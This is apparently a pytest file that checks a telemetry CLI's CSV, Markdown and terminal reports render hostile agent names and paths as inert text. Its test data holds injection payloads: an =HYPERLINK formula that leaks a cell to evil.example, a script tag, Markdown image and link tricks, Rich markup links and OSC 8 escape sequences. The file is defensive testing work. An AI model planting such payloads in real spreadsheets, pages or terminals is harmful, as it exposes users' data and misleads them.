"""Names from a run are text in every report format: a spreadsheet runs no formula, Markdown makes no link,
image, heading or HTML of them, and the terminal reads no markup or escape sequence in them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from rollout_telemetry._cli.main import main
from tests.support import RenderedMarkdown, markdown_renderers

# Each hostile agent name, and the text it must come back as in a table cell (Markdown's, the terminal's):
# control characters written as their escapes, every other character as it is.
HOSTILE = {
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")': '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+1": "+1+1",
    "-2+3": "-2+3",
    "@SUM(A1)": "@SUM(A1)",
    "\t=1+1": "\\t=1+1",
    "\r=1+1": "\\r=1+1",
    "bare\rCR": "bare\\rCR",
    "x\n# Heading\n![t](https://evil.example/t.png)": "x\\n# Heading\\n![t](https://evil.example/t.png)",
    "<img src=https://evil.example/t.png>": "<img src=https://evil.example/t.png>",
    "<script>alert(1)</script>": "<script>alert(1)</script>",
    "[click](https://evil.example) <https://evil.example>": "[click](https://evil.example) <https://evil.example>",
    "*em* _em_ `code` a|b \\ &amp; ~~s~~ $x$ {#id}": "*em* _em_ `code` a|b \\ &amp; ~~s~~ $x$ {#id}",
    "[/x]": "[/x]",
    "[link=https://evil.example]click[/link]": "[link=https://evil.example]click[/link]",
    "[bold red]x": "[bold red]x",
    "x\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\": (
        "x\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\"
    ),
    "snake_case_agent": "snake_case_agent",
}


def _run(path: Path, names: list[str]) -> Path:
    """A run's file with two rewards (1.0 and -0.5) for each of ``names``, each of a task of its own."""
    rows = [
        {
            "reward": reward,
            "mask_sample": False,
            "_ng_task_index": 2 * task + index,
            "_ng_rollout_index": index,
            "agent_ref": {"name": name},
        }
        for task, name in enumerate(names)
        for index, reward in enumerate((1.0, -0.5))
    ]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def test_csv_cells_are_text_a_spreadsheet_does_not_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Read back as a spreadsheet reads it: a row per agent, each as wide as the header, every text cell
    quoted (a CR stays inside its field, written ``\\r``) and starting with ``'`` where it would start a
    formula; the numbers, a negative one too, are bare numbers."""
    path = _run(tmp_path / "run.jsonl", list(HOSTILE))
    assert main(["report", str(path), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    header, *rows = csv.reader(io.StringIO(out, newline=""))
    assert len(rows) == len(HOSTILE)
    assert all(len(row) == len(header) for row in rows)
    cells = {row[header.index("agent")]: row for row in rows}
    for name, shown in HOSTILE.items():
        expected = "'" + shown if name[0] in "=+-@" else shown
        assert expected in cells, name
    assert '\'=HYPERLINK("https://evil.example/?leak="&A1,"click")' in cells
    assert {"'+1+1", "'-2+3", "'@SUM(A1)", "\\t=1+1", "\\r=1+1", "bare\\rCR"} <= set(cells)
    # A reader that takes what is unquoted for a number: the text is text, the figures floats.
    header, *typed = csv.reader(io.StringIO(out, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    for row in typed:
        text = [cell for cell in row if isinstance(cell, str)]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in text), row
        figures: dict[object, object] = dict(zip(header, row, strict=True))
        assert isinstance(figures["agent"], str)
        assert isinstance(figures["file"], str)
        assert (figures["measured"], figures["mean_reward"]) == (2.0, 0.25)
        # a negative number is a number, not a formula: 0.25 - t975(1) * 0.75, the t-interval of two rewards
        assert figures["mean_reward_ci95_low"] == -9.2797


@pytest.mark.parametrize(("renderer", "render"), markdown_renderers())
def test_markdown_names_and_paths_are_inert_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], renderer: str, render: Callable[[str], str]
) -> None:
    """Rendered with HTML enabled, two runs' Markdown (one run's file named as an attack) holds exactly a
    table row per agent and the two headings, no image, script, link or other heading; each name and path is
    the text of its cell or heading."""
    names = list(HOSTILE)
    hostile_path = _run(tmp_path / "x\n# h1 ![i](evil.png) <img src=x> [a](b) #.jsonl", names)
    plain = _run(tmp_path / "plain.jsonl", ["math_agent"])
    assert main(["report", str(hostile_path), str(plain), "--format", "markdown"]) == 0
    text = capsys.readouterr().out
    rendered = RenderedMarkdown(render(text))
    assert [row[0].strip() for row in rendered.rows] == [
        *(HOSTILE[name] for name in sorted(names)),
        "math_agent",
    ]
    assert all(len(row) == 12 for row in rendered.rows)
    shown_path = str(hostile_path).replace("\n", "\\n")
    assert [heading.strip() for heading in rendered.headings] == [shown_path, str(plain)]
    allowed = {"h3", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "em", "p"}
    assert set(rendered.tags) <= allowed, f"{renderer}: {set(rendered.tags) - allowed}"
    assert rendered.tags.count("h3") == 2


BROKEN_MARKUP = ["[/x]", "[bold red]x"]
LINKS = ["[link=https://evil.example]click[/link]", "x\x1b]8;;https://evil.example\x1b\\y"]
MARKUP = [*BROKEN_MARKUP, LINKS[0]]
"""The names as they must read in the terminal (the escape sequence's is ``x\\x1b]8;;...``)."""


def _terminal_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, names: list[str]
) -> tuple[Path, list[str]]:
    """The table of a run of ``names`` under a heading (a second run beside it) and, 80 columns wide, an agent
    at a time (each name its table's title), as printed to a terminal: the two outputs."""
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "250")
    folder = tmp_path / "[bold red]runs" / "[link=https:" / "evil.example]run["  # [link=https:/evil...[/link]
    folder.mkdir(parents=True)
    path = _run(folder / "link].jsonl", names)
    other = _run(tmp_path / "other.jsonl", ["math_agent"])
    assert main(["report", str(path), str(other)]) == 0
    wide = capsys.readouterr().out
    monkeypatch.setenv("COLUMNS", "80")
    assert main(["report", str(path)]) == 0
    return path, [wide, capsys.readouterr().out]


def test_the_terminal_table_prints_markup_in_names_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal, names (and a path) holding rich markup are printed as they read, exit 0, where ``[/x]``
    raised a MarkupError and ``[bold red]`` coloured the rest of the cell."""
    path, outputs = _terminal_report(tmp_path, capsys, monkeypatch, BROKEN_MARKUP)
    for out in outputs:
        assert all(name in out for name in BROKEN_MARKUP)
    assert str(path) in outputs[0]  # the heading: the path as it is


def test_the_terminal_table_writes_no_hyperlink_or_escape_from_a_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal, a name (or path) holding ``[link=...]`` markup or an OSC 8 escape sequence is printed as
    text: no hyperlink, nor any other OSC sequence, reaches the terminal."""
    path, outputs = _terminal_report(tmp_path, capsys, monkeypatch, LINKS)
    for out in outputs:
        assert LINKS[0] in out
        assert "x\\x1b]8;;https://evil.example\\x1b\\y" in out
        assert "\x1b]" not in out
    assert str(path) in outputs[0]


def test_gyms_end_of_run_report_prints_markup_as_text_and_writes_its_page(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """``gym``'s report at the end of a run (``print_report``) prints such names as text and goes on to write
    the ``--html`` page, where a MarkupError stopped it before the page."""
    from rollout_telemetry import RolloutTelemetry
    from rollout_telemetry._cli.report_command import observer, print_report
    from rollout_telemetry._sources.follow import RunFiles
    from rollout_telemetry._views.intervals import RewardSamples
    from rollout_telemetry._views.run_order import RunOrder

    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "250")
    path = _run(tmp_path / "run.jsonl", MARKUP)
    telemetry = RolloutTelemetry()
    samples = RewardSamples()
    order = RunOrder()
    follower = telemetry._run_follower(RunFiles.from_main(path), observe=observer(samples, order))
    follower.read_all()
    follower.finish()
    page = tmp_path / "run.html"
    print_report(telemetry, follower, "table", samples, html=(page, order))
    out = capsys.readouterr().out
    assert all(name in out for name in MARKUP)
    assert "\x1b]" not in out
    assert "[/x]" in page.read_text(encoding="utf-8")
